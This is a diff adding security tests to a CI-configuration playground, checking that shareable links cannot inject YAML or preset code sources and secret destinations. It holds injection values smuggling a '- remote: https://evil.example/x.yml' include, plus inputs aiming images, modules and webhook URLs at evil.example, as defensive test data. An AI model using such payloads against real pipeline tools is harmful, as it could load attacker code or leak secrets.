@@ -202,6 +202,58 @@ test("a link restores the playground", async () => {
   await page.locator("#summary", { hasText: "deploy failed" }).waitFor();
 });
 
+/** Returns the address of a state. */
+const linkTo = (state) => `${server.url}#${Buffer.from(JSON.stringify(state)).toString("base64url")}`;
+
+// Case S1: nothing but numbers, booleans and quoted text gets into the include.
+test("a link brings no YAML into the include", async () => {
+  const evil = "5\n- remote: https://evil.example/x.yml";
+  for (const inputs of [
+    { timeout: evil },
+    { compare: `false${evil}` },
+    { timeout: [evil] },
+    { compare: "false" },
+    { finish: evil },
+    { timeout: 1e999 },
+    { language: `ko"${evil}` },
+    { mention: "a\u2028- remote: https://evil.example/x.yml" },
+    { start_job: `x"${evil}` },
+    { __proto__: { timeout: evil } },
+  ]) {
+    const { page, seen } = await open(browser, linkTo({ inputs: { deploy_jobs: "deploy", ...inputs } }));
+    const snippet = await text(page, "snippet");
+    const included = await page.evaluate(async (yaml) => (await import("./yaml/index.js")).parse(yaml), snippet);
+    assert.deepEqual([included.include.length, Object.keys(included)], [1, ["include"]], snippet);
+    await page.click("#tab-pipeline");
+    await page.fill("#pipeline", "deploy:\n  script: [make]\n");
+    await page.locator("#proposed:not(:empty)").waitFor({ state: "attached" });
+    assert.doesNotMatch(await text(page, "proposed"), /^\s*- remote:/mu);
+    assert.deepEqual(seen.errors, []);
+    await page.context().close();
+  }
+});
+
+// Case S2: a link decides neither which code runs nor where secrets go.
+test("a link presets no code and no address for secrets", async () => {
+  const inputs = {
+    image: "docker.io/evil/curl:1",
+    package_url: "https://evil.example",
+    module_url: "https://evil.example/x.wasm",
+    module_sha256: "a".repeat(64),
+    allow_hosts: "evil.example",
+    slack_api_url: "https://evil.example/api",
+    webhook_variable: "OTHER_HOOK",
+  };
+  const { page } = await open(browser, linkTo({ inputs: { ...inputs, mention: "here" } }));
+  assert.deepEqual(await inputsOf(page, await text(page, "snippet")), { mention: "here" });
+  // Who enters one sees it in the include, and shares no link with it.
+  await page.locator("summary", { hasText: "Jobs and delivery" }).click();
+  await page.fill("#input-package_url", "https://mirror.example/files");
+  assert.deepEqual(await inputsOf(page, await text(page, "snippet")), { mention: "here", package_url: "https://mirror.example/files" });
+  const other = await open(browser, page.url());
+  assert.deepEqual(await inputsOf(other.page, await text(other.page, "snippet")), { mention: "here" });
+});
+
 test("the whole playground is in Korean, too", async () => {
   const { page, seen } = await open(browser, server.url, { locale: "ko-KR" });
   assert.equal(await page.locator("html").getAttribute("lang"), "ko");
